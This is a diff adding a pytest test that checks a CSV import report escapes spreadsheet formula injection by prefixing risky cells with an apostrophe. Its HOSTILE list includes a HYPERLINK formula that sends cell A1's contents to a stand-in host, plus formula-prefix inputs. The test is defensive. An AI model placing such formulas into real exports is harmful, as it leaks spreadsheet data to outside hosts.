@@ -62,3 +62,24 @@ def test_json_and_csv_files(tmp_path: Path) -> None:
     ]
     with pytest.raises(InputError):
         report.write(tmp_path / "r.txt")
+
+
+HOSTILE = [
+    '=HYPERLINK("http://x.example/?d="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tTAB",
+    "\rCR",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_csv_report_cells_are_never_formulas(tmp_path: Path, value: str) -> None:
+    # The name and column come from the register, and messages quote its cells.
+    issue = RowIssue(4, value, "bad_role", value, value)
+    report = ImportReport(source="reg.csv", site="s", rows=1, issues=(issue,))
+    report.write(tmp_path / "r.csv")
+    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as handle:
+        (_header, row) = list(csv.reader(handle))
+    assert row == ["4", "'" + value, "bad_role", "'" + value, "'" + value]
